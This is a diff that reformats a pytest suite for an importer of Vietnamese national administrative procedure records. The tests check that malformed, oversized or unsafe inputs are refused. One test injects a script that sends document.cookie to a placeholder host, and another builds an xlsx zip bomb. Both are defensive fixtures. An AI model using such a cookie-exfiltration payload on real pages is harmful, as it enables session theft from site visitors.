@@ -99,8 +99,11 @@ def test_faults_of_real_pages_are_handled_as_an_editor_would(
     assert post["fees_text"] == "Mức thu do Hội đồng nhân dân tỉnh quy định"
     first, second = one["documents"]
     assert first["case"] == "Hồ sơ đề nghị cấp mới"
-    assert first["items"][0] == {"name": "Văn bản đề nghị cấp giấy chứng nhận (Mẫu ANTT01)", "originals": "1",
-                                 "note": "Mẫu đơn, tờ khai: Mau ANTT01.docx"}  # fmt: skip
+    assert first["items"][0] == {
+        "name": "Văn bản đề nghị cấp giấy chứng nhận (Mẫu ANTT01)",
+        "originals": "1",
+        "note": "Mẫu đơn, tờ khai: Mau ANTT01.docx",
+    }
     assert first["items"][1]["note"].startswith("Trường hợp thông tin đã có")  # the "0 bản chính" row above
     assert second["items"][0]["note"] == "Giấy tờ chứng minh việc thay đổi gồm:"  # a lead-in: the paper below
     assert one["legal_basis"][0] == {
@@ -133,8 +136,9 @@ def test_the_review_page_lists_each_value_to_look_at_and_each_skipped_file(
     assert "9.000003.json`: is named 9.000003, but the page in it is procedure 9.000099" in page
 
 
-def test_reimporting_unchanged_sources_changes_no_file(national_project: NationalProject, sources: Sources,
-                                                       capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+def test_reimporting_unchanged_sources_changes_no_file(
+    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
+) -> None:
     project = national_project()
     folder = sources()
     _import(project, str(folder))
@@ -147,15 +151,19 @@ def test_reimporting_unchanged_sources_changes_no_file(national_project: Nationa
     assert "No file changed." in out
 
 
-def test_national_changes_come_in_and_local_edits_stay(national_project: NationalProject, sources: Sources,
-                                                       capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+def test_national_changes_come_in_and_local_edits_stay(
+    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
+) -> None:
     project = national_project()
     folder = sources()
     _import(project, str(folder))
     path, _ = _record(project, "9.000005")
     text = path.read_text(encoding="utf-8")
-    text = text.replace("title: Đăng ký tạm trú (thủ tục thử)\n", "title: Đăng ký tạm trú (thủ tục thử)\n"
-                        "summary: Dành cho người đến ở nơi khác nơi thường trú từ 30 ngày trở lên.\n")  # fmt: skip
+    text = text.replace(
+        "title: Đăng ký tạm trú (thủ tục thử)\n",
+        "title: Đăng ký tạm trú (thủ tục thử)\n"
+        "summary: Dành cho người đến ở nơi khác nơi thường trú từ 30 ngày trở lên.\n",
+    )
     assert "Miễn cho trẻ em, người cao tuổi." in text
     text = text.replace("Miễn cho trẻ em, người cao tuổi.", "Miễn cho trẻ em dưới 16 tuổi.")
     path.write_text(text, encoding="utf-8")
@@ -188,8 +196,9 @@ def test_a_value_both_sides_changed_is_a_conflict_and_the_local_text_stays(
     folder = sources()
     _import(project, str(folder))
     path, _ = _record(project, "9.000005")
-    path.write_text(path.read_text(encoding="utf-8").replace("decision: 3456/QĐ-BCA-C06", "decision: 3456/QĐ-BCA"),
-                    encoding="utf-8")  # fmt: skip
+    path.write_text(
+        path.read_text(encoding="utf-8").replace("decision: 3456/QĐ-BCA-C06", "decision: 3456/QĐ-BCA"), encoding="utf-8"
+    )
     portal = json.loads((folder / "9.000005.json").read_text(encoding="utf-8"))
     portal["data"]["decisionNo"] = "4567/QĐ-BCA-C06"
     (folder / "9.000005.json").write_text(json.dumps(portal, ensure_ascii=False), encoding="utf-8")
@@ -218,8 +227,9 @@ def test_a_record_an_editor_removed_is_not_brought_back(national_project: Nation
     assert not any(p for p in (project / "procedures").rglob("*.yaml") if "con-dau" in p.name)
 
 
-def test_dry_run_writes_nothing_and_says_what_would_change(national_project: NationalProject, sources: Sources,
-                                                          capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+def test_dry_run_writes_nothing_and_says_what_would_change(
+    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
+) -> None:
     project = national_project()
     before = tree(project)
     assert _import(project, str(sources()), "--dry-run") == 0
@@ -236,8 +246,9 @@ def test_levels_keeps_what_a_province_publishes(national_project: NationalProjec
     assert _import(project, str(sources()), "--levels", "tinh,huyen") == 1
 
 
-def test_check_lists_each_field_that_differs_and_exits_1(national_project: NationalProject, sources: Sources,
-                                                         capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+def test_check_lists_each_field_that_differs_and_exits_1(
+    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
+) -> None:
     project = national_project()
     folder = sources()
     _import(project, str(folder))
@@ -248,8 +259,9 @@ def test_check_lists_each_field_that_differs_and_exits_1(national_project: Natio
     data = portal["data"]
     data["executionMethods"][0]["fees"][0]["value"] = 20000
     data["decisionNo"] = "4567/QĐ-BCA-C06"
-    data["executionCases"][0]["profileComponents"].append({"name": "Giấy tờ chứng minh quan hệ nhân thân",
-                                                            "originalQty": 0, "copyQty": 1})  # fmt: skip
+    data["executionCases"][0]["profileComponents"].append(
+        {"name": "Giấy tờ chứng minh quan hệ nhân thân", "originalQty": 0, "copyQty": 1}
+    )
     data["legalBasisesDetails"][1] = {"code": "53/2025/TT-BCA", "name": "Thông tư sửa đổi Thông tư 55/2021/TT-BCA"}
     (folder / "9.000005.json").write_text(json.dumps(portal, ensure_ascii=False), encoding="utf-8")
     before = tree(project)
@@ -293,16 +305,18 @@ def _refused(project: Path, folder: Path, capsys: pytest.CaptureFixture[str]) ->
     return err
 
 
-def test_malformed_json_is_refused(national_project: NationalProject, sources: Sources,
-                                   capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+def test_malformed_json_is_refused(
+    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
+) -> None:
     folder = sources()
     (folder / "9.000006.json").write_text('{"ma_thu_tuc": "9.000006", "ten_thu_tuc": "Thử" "x"}', encoding="utf-8")
     err = _refused(national_project(), folder, capsys)
     assert re.search(r"national-files/9\.000006\.json:1:\d+: invalid JSON: Expecting ',' delimiter", err)
 
 
-def test_truncated_json_is_refused(national_project: NationalProject, sources: Sources,
-                                   capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+def test_truncated_json_is_refused(
+    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
+) -> None:
     folder = sources()
     text = (folder / "9.000001.json").read_text(encoding="utf-8")
     (folder / "9.000001.json").write_text(text[: len(text) // 2], encoding="utf-8")
@@ -311,8 +325,9 @@ def test_truncated_json_is_refused(national_project: NationalProject, sources: S
     assert "the file ends before its JSON does (cut short while saving?)" in err
 
 
-def test_a_wrong_encoding_is_refused(national_project: NationalProject, sources: Sources,
-                                     capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+def test_a_wrong_encoding_is_refused(
+    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
+) -> None:
     folder = sources()
     text = (folder / "9.000002.json").read_text(encoding="utf-8")
     (folder / "9.000002.json").write_bytes(text.encode("cp1258", errors="replace"))
@@ -320,17 +335,20 @@ def test_a_wrong_encoding_is_refused(national_project: NationalProject, sources:
     assert "national-files/9.000002.json:" in err and "is not UTF-8" in err and "save the file as UTF-8" in err
 
 
-def test_a_utf16_file_is_refused(national_project: NationalProject, sources: Sources,
-                                 capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+def test_a_utf16_file_is_refused(
+    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
+) -> None:
     folder = sources()
     text = (folder / "9.000002.json").read_text(encoding="utf-8")
     (folder / "9.000002.json").write_bytes(text.encode("utf-16"))
     assert "national-files/9.000002.json: is saved as UTF-16; save it as UTF-8" in _refused(
-        national_project(), folder, capsys)  # fmt: skip
+        national_project(), folder, capsys
+    )
 
 
-def test_a_50_mb_file_is_refused_unread(national_project: NationalProject, sources: Sources,
-                                        capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+def test_a_50_mb_file_is_refused_unread(
+    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
+) -> None:
     folder = sources()
     with (folder / "9.000007.json").open("wb") as file:
         file.truncate(50 * 1024 * 1024)  # sparse: 50 MB that take no disk
@@ -338,8 +356,9 @@ def test_a_50_mb_file_is_refused_unread(national_project: NationalProject, sourc
     assert "national-files/9.000007.json: is 50.0 MB; a national procedure record is under 4 MB" in err
 
 
-def test_an_xlsx_zip_bomb_is_refused_unopened(national_project: NationalProject, sources: Sources,
-                                              capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+def test_an_xlsx_zip_bomb_is_refused_unopened(
+    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
+) -> None:
     folder = sources()
     with zipfile.ZipFile(folder / "danh-sach.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("[Content_Types].xml", "<Types/>")
@@ -349,8 +368,9 @@ def test_an_xlsx_zip_bomb_is_refused_unopened(national_project: NationalProject,
     assert "national-files/danh-sach.xlsx: part xl/worksheets/sheet1.xml unpacks" in err and "zip bomb" in err
 
 
-def test_html_with_a_script_in_the_procedure_is_refused(national_project: NationalProject, sources: Sources,
-                                                        capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+def test_html_with_a_script_in_the_procedure_is_refused(
+    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
+) -> None:
     folder = sources()
     page = (NATIONAL / "html" / "9.000004.html").read_text(encoding="utf-8")
     page = page.replace("<p>Bước 2:", '<script>fetch("https://example.invalid/?c="+document.cookie)</script><p>Bước 2:')
@@ -359,8 +379,9 @@ def test_html_with_a_script_in_the_procedure_is_refused(national_project: Nation
     assert "national-files/9.000004.html: trinh_tu_thuc_hien: holds <script>, which runs code" in err
 
 
-def test_two_files_with_the_same_code_are_refused(national_project: NationalProject, sources: Sources,
-                                                  capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+def test_two_files_with_the_same_code_are_refused(
+    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
+) -> None:
     folder = sources()
     (folder / "copy-of-9.000001.json").write_bytes((folder / "9.000001.json").read_bytes())
     err = _refused(national_project(), folder, capsys)
@@ -368,16 +389,18 @@ def test_two_files_with_the_same_code_are_refused(national_project: NationalProj
     assert "national-files/copy-of-9.000001.json: holds procedure 9.000001, as does national-files/9.000001.json" in err
 
 
-def test_a_file_of_another_shape_is_refused(national_project: NationalProject, sources: Sources,
-                                            capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
+def test_a_file_of_another_shape_is_refused(
+    national_project: NationalProject, sources: Sources, capsys: pytest.CaptureFixture[str]
+) -> None:
     folder = sources()
     (folder / "settings.json").write_text('{"theme": "dark"}', encoding="utf-8")
     err = _refused(national_project(), folder, capsys)
     assert "national-files/settings.json: is neither the procedure page by section" in err
 
 
-def test_a_second_import_at_once_is_refused(national_project: NationalProject, sources: Sources,
-                                            monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
+def test_a_second_import_at_once_is_refused(
+    national_project: NationalProject, sources: Sources, monkeypatch: pytest.MonkeyPatch
+) -> None:
     import fcntl
     import os
 
